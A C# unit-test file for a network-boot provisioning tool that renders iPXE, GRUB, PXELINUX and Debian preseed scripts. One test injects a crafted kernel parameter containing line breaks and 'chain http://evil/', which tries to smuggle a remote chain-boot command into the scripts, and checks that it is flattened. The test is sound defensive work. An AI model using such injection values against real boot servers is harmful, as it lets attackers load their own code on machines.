using System.Text.Json;
using Anvil.Provisioning.Boot;
using Anvil.Provisioning.Catalog;
using Anvil.Provisioning.Documents;
using Anvil.Provisioning.Jobs;
using Anvil.Provisioning.Machines;
using Anvil.Templates;

namespace Anvil.Provisioning.Tests.Boot;

public sealed class BootFilesTests
{
    private static readonly BootServer Server = new("10.0.0.1", 8091, 8092);

    private static Machine Machine(string env) => new()
    {
        Uuid = "0b3c6a8e-0000-4000-8000-000000000001",
        Name = "web1.example.com",
        HardwareAddrs = ["52:54:00:00:00:01"],
        BootEnv = env,
        Arch = "amd64",
        Secret = "verysecret",
        Params = new Dictionary<string, JsonElement>(StringComparer.Ordinal)
        {
            ["access-keys"] = Json.Element(new Dictionary<string, string>(StringComparer.Ordinal) { ["ann"] = "ssh-ed25519 AAAA ann" }),
            ["debian/mirror"] = Json.Element("http://mirror.example/debian"),
        },
    };

    private static RenderContext Context(Machine? machine, string env)
    {
        var catalog = TestCatalog.With();
        return new RenderContext(catalog, Server, machine, catalog.BootEnvs[env], (uuid, _, _) => $"token-of-{uuid ?? "nobody"}");
    }

    [Fact]
    public void UnknownMachinesGetTheDiscoveryScriptAndATokenOfTheirOwn()
    {
        var script = BootFiles.Find("default.ipxe", Context(null, "discovery"))!.Render();
        Assert.StartsWith("#!ipxe\n", script, StringComparison.Ordinal);
        Assert.Contains("kernel http://10.0.0.1:8091/sledgehammer/vmlinuz BOOTIF=01-${netX/mac:hexhyp} initrd=initrd.zst quiet", script,
            StringComparison.Ordinal);
        Assert.DoesNotContain("token", script, StringComparison.Ordinal);
        using var config = JsonDocument.Parse(BootFiles.Find("sledgehammer/agent.json", Context(null, "discovery"))!.Render());
        Assert.Equal("token-of-nobody", config.RootElement.GetProperty("Token").GetString());
        Assert.Equal("", config.RootElement.GetProperty("Machine").GetString());
        Assert.Equal("https://10.0.0.1:8092", config.RootElement.GetProperty("Api").GetString());
        Assert.Equal("", config.RootElement.GetProperty("ApiPin").GetString());
    }

    /// <summary>What boots it asks for its machine, of which there is none: each script of discovery renders all the same.</summary>
    [Fact]
    public void EachScriptOfDiscoveryRendersForNoMachine()
    {
        var context = Context(null, "discovery");
        var files = BootFiles.All(context).ToList();
        Assert.Contains(files, f => f.Path.Contains("grub", StringComparison.Ordinal));
        Assert.All(files, f => Assert.NotEqual("", f.Render()));
    }

    [Theory]
    [InlineData(false, "nobody")]
    [InlineData(true, "m1")]
    public void NoMachineIsNilAsInGo(bool isKnown, string expected)
    {
        var env = new BootEnv
        {
            Name = "case-nil",
            Templates =
            [
                new TemplateInfo
                {
                    Name = "script", Path = "case.script",
                    Contents = "{{ with .Machine }}{{ .Name }}{{ else }}{{ if .Machine }}?{{ else }}nobody{{ end }}{{ end }}",
                },
            ],
        };
        var catalog = TestCatalog.With(env);
        var machine = isKnown ? Machine("case-nil") with { Name = "m1" } : null;
        var context = new RenderContext(catalog, Server, machine, catalog.BootEnvs[env.Name], (_, _, _) => "token");
        Assert.Equal(expected, BootFiles.Find("case.script", context)!.Render());
    }

    [Fact]
    public void AMachinesScriptIsNamedByItsMac()
    {
        Assert.NotNull(BootFiles.Find("52:54:00:00:00:01.ipxe", Context(Machine("sledgehammer"), "sledgehammer")));
        Assert.Null(BootFiles.Find("52:54:00:00:00:02.ipxe", Context(Machine("sledgehammer"), "sledgehammer")));
    }

    [Fact]
    public void WhatMayBeRenderedIsKnownWithoutRendering()
    {
        var catalog = TestCatalog.With();
        var files = catalog.BootEnvs.Keys.SelectMany(env => BootFiles.All(Context(Machine(env), env)).Select(f => (env, f.Path))).ToList();
        Assert.NotEmpty(files);
        Assert.All(files, f => Assert.True(BootFiles.MayBeRendered(f.Path, Context(Machine(f.env), f.env)), f.Path));
        Assert.False(BootFiles.MayBeRendered("sledgehammer/vmlinuz", Context(Machine("sledgehammer"), "sledgehammer")));
        Assert.False(BootFiles.MayBeRendered("debian-13/install/amd64/linux", Context(Machine("debian-13-install"), "debian-13-install")));
    }

    [Fact]
    public void ThePreseedNamesMirrorHostAndKeys()
    {
        var context = Context(Machine("debian-13-install"), "debian-13-install");
        var seed = BootFiles.Find("machines/0b3c6a8e-0000-4000-8000-000000000001/seed", context)!.Render();
        Assert.Contains("d-i mirror/http/hostname string mirror.example\n", seed, StringComparison.Ordinal);
        Assert.Contains("d-i netcfg/hostname string web1\n", seed, StringComparison.Ordinal);
        var post = BootFiles.Find("machines/0b3c6a8e-0000-4000-8000-000000000001/post-install.sh", context)!.Render();
        Assert.Contains("'ssh-ed25519 AAAA ann'", post, StringComparison.Ordinal);
        Assert.Contains("call POST jobs", post, StringComparison.Ordinal);
    }

    /// <summary>A value with line ends would add lines to the scripts of iPXE, GRUB and PXELINUX.</summary>
    [Theory]
    [InlineData("52:54:00:00:00:01.ipxe")]
    [InlineData("grub/grub.cfg")]
    [InlineData("pxelinux.cfg/01-52-54-00-00-00-01")]
    public void KernelArgumentsAreOneLine(string path)
    {
        var machine = Machine("debian-13-install");
        var evil = machine with
        {
            Params = new Dictionary<string, JsonElement>(machine.Params, StringComparer.Ordinal)
            {
                ["kernel-console"] = Json.Element("console=ttyS0\r\nchain http://evil/\n\tlinux\u0001 evil"),
            },
        };
        var lines = BootFiles.Find(path, Context(evil, "debian-13-install"))!.Render().Split('\n');
        Assert.Contains(lines, l => l.Contains("console=ttyS0 chain http://evil/ linux evil", StringComparison.Ordinal));
        Assert.DoesNotContain(lines, l => l.TrimStart().StartsWith("chain http://evil", StringComparison.Ordinal)
            || l.TrimStart().StartsWith("linux evil", StringComparison.Ordinal));
    }

    [Fact]
    public void AMissingRequiredParamIsNamed()
    {
        var machine = Machine("debian-13-install") with { Params = new Dictionary<string, JsonElement>() };
        var error = Assert.Throws<TemplateException>(
            () => BootFiles.Find("machines/0b3c6a8e-0000-4000-8000-000000000001/seed", Context(machine, "debian-13-install"))!.Render());
        Assert.Contains("debian/mirror", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void NoTemplateCanReadTheMachinesSecret()
    {
        var context = Context(Machine("sledgehammer"), "sledgehammer");
        var error = Assert.Throws<TemplateException>(
            () => new RenderData(context).Render(new TemplateInfo { Name = "x", Contents = "{{ .Machine.Secret }}" }));
        Assert.DoesNotContain("verysecret", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void EveryTaskThatComesWithAnvilRenders()
    {
        var context = Context(Machine("sledgehammer"), "sledgehammer");
        foreach (var task in context.Catalog.Tasks.Values) Assert.NotEmpty(JobActions.Render(task, context, "linux"));
        var configure = JobActions.Render(context.Catalog.Tasks["image-configure"], context, "linux");
        Assert.Contains("ssh_authorized_keys: [\"ssh-ed25519 AAAA ann\"]", configure.Single(a => a.Path == "user-data").Content,
            StringComparison.Ordinal);
    }
}
